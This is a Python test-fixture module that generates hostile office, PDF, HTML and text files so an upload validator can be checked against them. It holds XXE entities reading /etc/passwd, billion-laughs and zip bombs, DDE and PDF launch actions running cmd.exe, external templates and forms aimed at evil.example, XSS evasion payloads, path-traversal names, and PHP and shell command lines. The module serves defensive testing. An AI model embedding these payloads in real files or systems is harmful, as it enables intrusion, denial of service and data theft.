"""Hostile documents, each made by a function of its own; nothing is fetched and none is kept."""

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    StreamObject,
    TextStringObject as Text,
)

from tests.base.uploads import honest


@dataclass(frozen=True)
class Hostile:
    """A file that must not be kept, and the fault that has to be told."""

    file_name: str
    make: Callable[[], bytes]
    fault: str


DOCUMENTS: dict[str, Hostile] = {}
EVIL = "https://evil.example/"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

Make = Callable[[], bytes]


def hostile(fault: str, ending: str, name: str = "") -> Callable[[Make], Make]:
    """Put the function's file on the list."""

    def note(make: Make) -> Make:
        key = name or make.__name__
        DOCUMENTS[key] = Hostile(f"ohje.{ending}", make, fault)
        return make

    return note


# Packages


def packed(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", method) as package:
        for name, part in parts.items():
            how = zipfile.ZIP_STORED if name == "mimetype" else method
            package.writestr(zipfile.ZipInfo(name), part, how)
    return content.getvalue()


def with_parts(package: bytes, **parts: bytes) -> bytes:
    """The package with more parts, or others in their place."""
    return packed({**honest.members(package), **parts})


def changed(package: bytes, name: str, old: bytes, new: bytes) -> bytes:
    parts = honest.members(package)
    assert old in parts[name], f"{old!r} is not in {name}"
    return packed({**parts, name: parts[name].replace(old, new, 1)})


def typed(package: bytes, part: str, kind: str, content: bytes) -> bytes:
    """The package with one more part of a type of its own."""
    told = f'<Override PartName="/{part}" ContentType="{kind}"/></Types>'.encode()
    return changed(with_parts(package, **{part: content}), "[Content_Types].xml", b"</Types>", told)


def related(package: bytes, rels: str, kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    told = f'<Relationship Id="rId99" Type="{RELATION}{kind}" Target="{target}"{mode}/></Relationships>'.encode()
    return changed(package, rels, b"</Relationships>", told)


WORD_RELS, SHEET_RELS, SLIDE_RELS = (
    "word/_rels/document.xml.rels",
    "xl/_rels/workbook.xml.rels",
    "ppt/_rels/presentation.xml.rels",
)
XXE = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    b'<!DOCTYPE a [<!ENTITY a "ha">'
    + b"".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">'.replace("&a0;", "&a;").encode() for n in range(1, 10))
    + b"]>"
)


@hostile("macros", "docx")
def docx_with_macros() -> bytes:
    return typed(honest.docx(), "word/vbaProject.bin", "application/vnd.ms-office.vbaProject", OLE)


@hostile("macros", "docx")
def docx_with_macros_of_another_name() -> bytes:
    return typed(honest.docx(), "word/media/x.dat", "application/vnd.ms-office.vbaProject", b"macro")


@hostile("macros", "docx")
def docm_named_docx() -> bytes:
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return changed(
        honest.docx(), "[Content_Types].xml", kind, b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )


@hostile("external", "docx")
def docx_with_external_template() -> bytes:
    told = f'<Relationship Id="rId1" Type="{RELATION}attachedTemplate" Target="{EVIL}t.dotm" TargetMode="External"/>'
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{told}</Relationships>'
    return with_parts(honest.docx(), **{"word/_rels/settings.xml.rels": rels.encode()})


for _kind in ("image", "oleObject", "frame", "subDocument"):
    hostile("external", "docx", f"docx_with_external_{_kind}")(
        lambda kind=_kind: related(honest.docx(), WORD_RELS, kind, f"{EVIL}x")
    )


@hostile("external", "docx")
def docx_with_template_on_a_share() -> bytes:
    return related(honest.docx(), WORD_RELS, "attachedTemplate", "\\\\evil.example\\t.dotm")


@hostile("active_links", "docx")
def docx_with_script_link() -> bytes:
    return related(honest.docx(), WORD_RELS, "hyperlink", "JavaScript:alert(1)")


@hostile("active_links", "docx")
def docx_with_program_link() -> bytes:
    return related(honest.docx(), WORD_RELS, "hyperlink", "ms-msdt:/id PCWDiagnostic")


@hostile("entities", "docx")
def docx_with_external_entity() -> bytes:
    return changed(honest.docx(), "word/document.xml", b"<w:document", XXE + b"<w:document")


@hostile("entities", "docx")
def docx_with_external_entity_in_wide_letters() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?>' + XXE.decode() + "<a>&x;</a>"
    return with_parts(honest.docx(), **{"customXml/item1.xml": text.encode("utf-16")})


@hostile("entities", "docx")
def docx_with_external_entity_under_another_ending() -> bytes:
    return with_parts(honest.docx(), **{"word/media/image9.png": XXE + b"<a>&x;</a>"})


@hostile("entities", "docx")
def docx_in_letters_that_hide() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'
    return with_parts(honest.docx(), **{"customXml/item1.xml": text.encode()})


@hostile("entities", "docx")
def docx_with_billion_laughs() -> bytes:
    return changed(honest.docx(), "word/document.xml", b"<w:document", LAUGHS + b"<w:document")


@hostile("entities", "docx")
def docx_with_entity_in_its_types() -> bytes:
    return changed(honest.docx(), "[Content_Types].xml", b"<Types", XXE + b"<Types")


@hostile("embedded", "docx")
def docx_with_ole_object() -> bytes:
    return with_parts(honest.docx(), **{"word/embeddings/oleObject1.bin": OLE})


@hostile("embedded", "docx")
def docx_with_ole_object_of_another_name() -> bytes:
    return with_parts(honest.docx(), **{"word/media/image9.emf": OLE})


@hostile("embedded", "docx")
def docx_with_activex() -> bytes:
    return with_parts(honest.docx(), **{"word/activeX/activeX1.xml": b"<ax/>"})


@hostile("embedded", "docx")
def docx_with_a_page_as_a_part() -> bytes:
    package = with_parts(honest.docx(), **{"word/afchunk.mht": b"MIME-Version: 1.0"})
    return related(package, WORD_RELS, "aFChunk", "afchunk.mht", external=False)


@hostile("heavy", "docx")
def docx_with_a_part_too_large() -> bytes:
    text = "".join(f"<b>{number}</b>" for number in range(1_700_000))
    return with_parts(honest.docx(), **{"docProps/app.xml": f"<a>{text}</a>".encode()})


@hostile("embedded", "docx")
def docx_with_program() -> bytes:
    return with_parts(honest.docx(), **{"word/media/image9.png": b"MZ\x90\0" + bytes(200)})


@hostile("embedded", "docx")
def docx_with_nested_packages() -> bytes:
    inner = with_parts(honest.xlsx(), **{"xl/embeddings/b.xlsx": honest.xlsx()})
    return with_parts(honest.docx(), **{"word/embeddings/a.xlsx": inner})


@hostile("embedded", "docx")
def docx_with_zip_inside() -> bytes:
    return with_parts(honest.docx(), **{"word/media/image9.png": packed({"a.exe": b"MZ"})})


@hostile("macros", "pptx")
def pptx_with_macros_in_its_sheet() -> bytes:
    parts = honest.members(honest.pptx())
    name = next(name for name in parts if name.endswith(".xlsx"))
    return packed({**parts, name: xlsx_with_macros()})


@hostile("orders", "docx")
def docx_with_dde() -> bytes:
    field = b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p><w:sectPr'
    return changed(honest.docx(), "word/document.xml", b"<w:sectPr", field)


@hostile("broken", "docx")
def docx_that_climbs_out() -> bytes:
    return with_parts(honest.docx(), **{"../../outside.xml": b"<a/>"})


@hostile("broken", "docx")
def docx_with_absolute_name() -> bytes:
    return with_parts(honest.docx(), **{"/etc/cron.d/a": b"a"})


@hostile("broken", "docx")
def docx_with_a_name_twice() -> bytes:
    return with_parts(honest.docx(), **{"WORD/document.xml": b"<a/>"})


@hostile("locked", "docx")
def docx_with_locked_member() -> bytes:
    content = bytearray(honest.docx())
    for mark, place in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        content[content.index(mark) + place] |= 1
    return bytes(content)


@hostile("bomb", "docx")
def zip_bomb() -> bytes:
    """A thousand to one."""
    return with_parts(honest.docx(), **{"word/media/image9.bmp": bytes(50 * 1024 * 1024)})


@hostile("bomb", "docx")
def zip_bomb_in_many_pieces() -> bytes:
    piece = bytes(1024 * 1024)
    return with_parts(honest.docx(), **{f"word/media/image{n}.bmp": piece for n in range(210)})


@hostile("bomb", "pptx")
def nested_zip_bomb() -> bytes:
    inner = with_parts(honest.xlsx(), **{"xl/media/image9.bmp": bytes(50 * 1024 * 1024)})
    return with_parts(honest.pptx(), **{"ppt/embeddings/a.xlsx": inner})


@hostile("bomb", "docx")
def docx_of_six_thousand_members() -> bytes:
    return with_parts(honest.docx(), **{f"word/media/{n}.txt": b"" for n in range(6000)})


@hostile("broken", "docx")
def docx_that_lies_about_a_size() -> bytes:
    content = bytearray(with_parts(honest.docx(), **{"word/media/image9.bmp": bytes(300_000)}))
    place = content.rindex(b"PK\x01\x02")
    content[place + 24 : place + 28] = (100).to_bytes(4, "little")
    return bytes(content)


@hostile("other_kind", "docx")
def docx_behind_a_script() -> bytes:
    return b"#!/bin/sh\necho\n" + honest.docx()


@hostile("other_kind", "docx")
def docx_before_a_page() -> bytes:
    return honest.docx() + b"<script>alert(1)</script>"


@hostile("other_kind", "docx")
def xlsx_named_docx() -> bytes:
    return honest.xlsx()


@hostile("other_kind", "docx")
def html_named_docx() -> bytes:
    return b"<html><script>alert(1)</script></html>"


@hostile("other_kind", "docx")
def package_of_nothing() -> bytes:
    return packed({"a.txt": b"a"})


@hostile("broken", "docx")
def truncated_docx() -> bytes:
    return honest.docx()[:-2000]


@hostile("macros", "xlsx")
def xlsx_with_macros() -> bytes:
    return typed(honest.xlsx(), "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", OLE)


@hostile("macros", "xlsx")
def xlsx_with_macro_sheet() -> bytes:
    kind = "application/vnd.ms-excel.macrosheet+xml"
    return typed(honest.xlsx(), "xl/macrosheets/sheet1.xml", kind, b"<xm:macrosheet xmlns:xm='x'/>")


@hostile("external", "xlsx")
def xlsx_with_external_figures() -> bytes:
    return related(honest.xlsx(), SHEET_RELS, "externalLinkPath", f"{EVIL}a.xlsx")


@hostile("orders", "xlsx")
def xlsx_with_dde() -> bytes:
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return with_parts(honest.xlsx(), **{"xl/externalLinks/externalLink1.xml": link})


@hostile("entities", "xlsx")
def xlsx_with_external_entity() -> bytes:
    return changed(honest.xlsx(), "xl/workbook.xml", b"<workbook", XXE + b"<workbook")


@hostile("embedded", "xlsx")
def xlsx_with_ole_object() -> bytes:
    return with_parts(honest.xlsx(), **{"xl/embeddings/oleObject1.bin": OLE})


@hostile("macros", "pptx")
def pptx_with_macros() -> bytes:
    return typed(honest.pptx(), "ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject", OLE)


@hostile("orders", "pptx")
def pptx_that_starts_a_program() -> bytes:
    link = b'<p:cNvPr id="1" name="a"><a:hlinkClick action="ppaction://program"/></p:cNvPr>'
    return with_parts(
        honest.pptx(), **{"ppt/slides/slide9.xml": b"<p:sld xmlns:p='p' xmlns:a='a'>" + link + b"</p:sld>"}
    )


@hostile("external", "pptx")
def pptx_with_external_film() -> bytes:
    return related(honest.pptx(), SLIDE_RELS, "video", f"{EVIL}a.mp4")


@hostile("entities", "pptx")
def pptx_with_billion_laughs() -> bytes:
    return changed(honest.pptx(), "docProps/core.xml", b"<cp:coreProperties", LAUGHS + b"<cp:coreProperties")


# OpenDocument

BODY_END = b"</office:text>"


@hostile("macros", "odt")
def odt_with_basic() -> bytes:
    return with_parts(honest.odt(), **{"Basic/Standard/Module1.xml": b"<a/>"})


@hostile("macros", "odt")
def odt_with_python() -> bytes:
    return with_parts(honest.odt(), **{"Scripts/python/a.py": b"import os"})


def odt_saying(markup: bytes) -> bytes:
    spaces = b'<office:text xmlns:script="urn:script" xmlns:xlink="http://www.w3.org/1999/xlink" '
    package = changed(honest.odt(), "content.xml", b"<office:text", spaces)
    return changed(package, "content.xml", BODY_END, markup + BODY_END)


ODT_MARKUP = {
    "odt_with_listener": ("macros", b'<script:event-listener script:language="ooo:script"/>'),
    "odt_with_external_picture": ("external", b'<draw:image xlink:href="https://evil.example/a.png"/>'),
    "odt_with_external_section": ("external", b'<text:section-source xlink:href="file:///etc/passwd"/>'),
    "odt_with_frame": ("embedded", b'<draw:floating-frame xlink:href="a"/>'),
    "odt_with_plugin": ("embedded", b'<draw:plugin xlink:href="a"/>'),
    "odt_with_ole_object": ("embedded", b'<draw:object-ole xlink:href="./Object 1"/>'),
    "odt_with_macro_link": ("active_links", b'<text:a xlink:href="vnd.sun.star.script:a?language=Basic">a</text:a>'),
    "odt_with_dde": ("orders", b'<office:dde-source office:dde-application="soffice"/>'),
}
for _name, (_fault, _markup) in ODT_MARKUP.items():
    hostile(_fault, "odt", _name)(lambda markup=_markup: odt_saying(markup))


@hostile("entities", "odt")
def odt_with_external_entity() -> bytes:
    return changed(honest.odt(), "content.xml", b"<office:document-content", XXE + b"<office:document-content")


@hostile("other_kind", "odt")
def odt_that_is_a_sheet() -> bytes:
    return changed(honest.odt(), "mimetype", b"opendocument.text", b"opendocument.spreadsheet")


@hostile("embedded", "odt")
def odt_with_zip_inside() -> bytes:
    return with_parts(honest.odt(), **{"Pictures/a.png": packed({"a": b"a"})})


@hostile("locked", "odt")
def odt_with_password() -> bytes:
    told = b'<manifest:encryption-data manifest:checksum="a"/></manifest:manifest>'
    return changed(honest.odt(), "META-INF/manifest.xml", b"</manifest:manifest>", told)


# PDF


def dictionary(**values: object) -> DictionaryObject:
    def made(value: object) -> object:
        return NameObject(value) if isinstance(value, str) and value.startswith("/") else value

    return DictionaryObject({NameObject(f"/{name}"): made(value) for name, value in values.items()})


JS = dictionary(S="/JavaScript", JS=Text("app.alert(1)"))


def pdf_with(change: Callable[[PdfWriter], object]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(honest.plain_pdf())))
    change(writer)
    content = io.BytesIO()
    writer.write(content)
    return content.getvalue()


def root(name: str, value: object) -> Callable[[PdfWriter], object]:
    return lambda writer: writer.root_object.update({NameObject(f"/{name}"): value})


def note(**values: object) -> Callable[[PdfWriter], object]:
    told = dictionary(Type="/Annot", Rect=ArrayObject([]), **values)
    return lambda writer: writer.pages[0].update({NameObject("/Annots"): ArrayObject([told])})


def outline_with_script(writer: PdfWriter) -> None:
    entry = writer.root_object["/Outlines"]["/First"].get_object()
    entry.pop("/Dest", None)
    entry[NameObject("/A")] = JS


LINK = {"Subtype": "/Link"}
PDF_CHANGES: dict[str, tuple[str, Callable[[PdfWriter], object]]] = {
    "pdf_that_opens_with_a_script": ("scripts", root("OpenAction", JS)),
    "pdf_that_opens_with_a_program": ("orders", root("OpenAction", dictionary(S="/Launch", F=Text("cmd.exe")))),
    "pdf_that_opens_with_a_form": ("active_links", root("OpenAction", dictionary(S="/SubmitForm", F=Text(EVIL)))),
    "pdf_that_opens_another_file": ("active_links", root("OpenAction", dictionary(S="/GoToR", F=Text("\\\\evil\\a")))),
    "pdf_with_script_after_a_place": ("scripts", root("OpenAction", dictionary(S="/GoTo", Next=ArrayObject([JS])))),
    "pdf_with_named_script": (
        "scripts",
        root("Names", dictionary(JavaScript=dictionary(Names=ArrayObject([Text("a"), JS])))),
    ),
    "pdf_that_acts_when_closed": ("scripts", root("AA", dictionary(WC=JS))),
    "pdf_with_xfa_form": ("scripts", root("AcroForm", dictionary(XFA=Text("<x/>")))),
    "pdf_with_script_in_a_field": (
        "scripts",
        root(
            "AcroForm",
            dictionary(Fields=ArrayObject([dictionary(Kids=ArrayObject([dictionary(AA=dictionary(K=JS))]))])),
        ),
    ),
    "pdf_with_attachment": ("attachments", lambda writer: writer.add_attachment(filename="a.exe", data=b"MZ")),
    "pdf_with_associated_file": ("attachments", root("AF", ArrayObject([dictionary(Type="/Filespec")]))),
    "pdf_portfolio": ("attachments", root("Collection", dictionary(Type="/Collection"))),
    "pdf_with_file_note": ("attachments", note(Subtype="/FileAttachment", FS=dictionary(Type="/Filespec"))),
    "pdf_with_program_note": ("orders", note(**LINK, A=dictionary(S="/Launch", F=Text("cmd.exe")))),
    "pdf_with_script_note": ("scripts", note(**LINK, A=JS)),
    "pdf_with_script_address": ("active_links", note(**LINK, A=dictionary(S="/URI", URI=Text(" JavaScript:alert(1)")))),
    "pdf_with_media": ("scripts", note(Subtype="/RichMedia")),
    "pdf_with_acting_page": ("scripts", lambda writer: writer.pages[0].update({NameObject("/AA"): dictionary(O=JS)})),
    "pdf_with_script_in_its_contents": ("scripts", outline_with_script),
    "pdf_with_password": ("locked", lambda writer: writer.encrypt(user_password="a", algorithm="RC4-128")),
}
for _name, (_fault, _change) in PDF_CHANGES.items():
    hostile(_fault, "pdf", _name)(lambda change=_change: pdf_with(change))


@hostile("other_kind", "pdf")
def pdf_and_zip() -> bytes:
    return honest.pdf() + packed({"a.exe": b"MZ"})


@hostile("other_kind", "pdf")
def pdf_behind_a_page() -> bytes:
    return b"<html><script>alert(1)</script>" + honest.pdf()


@hostile("other_kind", "pdf")
def html_named_pdf() -> bytes:
    return b"<html><script>alert(1)</script></html>"


@hostile("broken", "pdf")
def truncated_pdf() -> bytes:
    return honest.pdf()[:-400]


@hostile("broken", "pdf")
def pdf_of_one_line() -> bytes:
    return b"%PDF-1.7\nstartxref\n9\n%%EOF"


def pdf_bomb() -> bytes:
    """A stream of metadata that unpacks to 1 GB."""

    def change(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream.set_data(bytes(300 * 1024 * 1024))
        writer.root_object[NameObject("/Metadata")] = writer._add_object(stream.flate_encode())

    return pdf_with(change)


hostile("broken", "pdf")(pdf_bomb)


# Texts and pages

TEXTS = {
    "program_named_txt": b"MZ\x90\0" + bytes(range(256)),
    "text_with_nul": b"a\0b",
    "text_with_controls": b"a\x1b]0;b\x07",
    "text_in_other_letters": "Äiti".encode("latin-1"),
}
for _name, _content in TEXTS.items():
    hostile("no_text", "txt", _name)(lambda content=_content: content)
hostile("other_kind", "txt", "script_named_txt")(lambda: b"#!/bin/sh\nrm -r x\n")

MARKUP = {
    "script": b"<script>alert(1)</script>",
    "script_in_capitals": b"<ScRiPt\n>alert(1)</sCrIpT >",
    "handler": b"<img src=x onerror=alert(1)>",
    "handler_behind_a_slash": b"<svg/onload=alert(1)>",
    "script_address": b'<a href="javascript:alert(1)">a</a>',
    "script_address_in_entities": b'<a href="java&#x0A;script&colon;alert(1)">a</a>',
    "script_address_with_spaces": b'<a href=" \x09j\x09avascript:alert(1)">a</a>',
    "data_address": b'<a href="data:text/html,<b>a">a</a>',
    "iframe": b'<iframe src="//evil.example/"></iframe>',
    "srcdoc": b'<p srcdoc="a">a</p>',
    "object": b'<object data="a.swf"></object>',
    "embed": b'<embed src="a.swf">',
    "form": b'<form action="https://evil.example/"><input></form>',
    "base": b'<base href="https://evil.example/">',
    "refresh": b'<meta content="0;url=//evil.example/" http-equiv="refresh">',
    "drawing_with_script": b"<svg><script>alert(1)</script></svg>",
    "drawing_with_foreign_object": b"<svg><foreignObject><p>a</p></foreignObject></svg>",
    "drawing_that_moves": b'<svg><a><animate attributeName="href" to="javascript:a"/></a></svg>',
    "entity": b'<!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/passwd">]><p>&a;</p>',
}
for _name, _content in MARKUP.items():
    hostile("active_page", "html", f"page_with_{_name}")(lambda content=_content: b"<html><p>Alku</p>" + content)
hostile("other_kind", "html", "picture_named_html")(lambda: b"GIF89a;alert(1)")
hostile("no_text", "html", "page_of_bytes")(lambda: b"<html>\0\xff</html>")

# Kinds that are not taken

SVG = {
    "svg_with_script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "svg_with_foreign_object": b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>a</p></foreignObject></svg>',
    "svg_with_external_entity": XXE + b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
}
OTHERS = {
    "program": ("a.exe", b"MZ"),
    "docm": ("a.docm", b"PK\x03\x04"),
    "php": ("a.php", b"<?php system('id');"),
    "xhtml": ("a.xhtml", b"<html/>"),
    "no_ending": ("ohje", b"a"),
    "ending_behind_nul": ("a.exe\0", b"a"),
    "double_zip_of_eicar": ("a.zip", packed({"b.zip": packed({"eicar.txt": EICAR})})),
}
for _name, _content in SVG.items():
    DOCUMENTS[_name] = Hostile("kuva.svg", lambda content=_content: content, "kind")
for _name, (_file_name, _content) in OTHERS.items():
    DOCUMENTS[f"kind_{_name}"] = Hostile(_file_name, lambda content=_content: content, "kind")
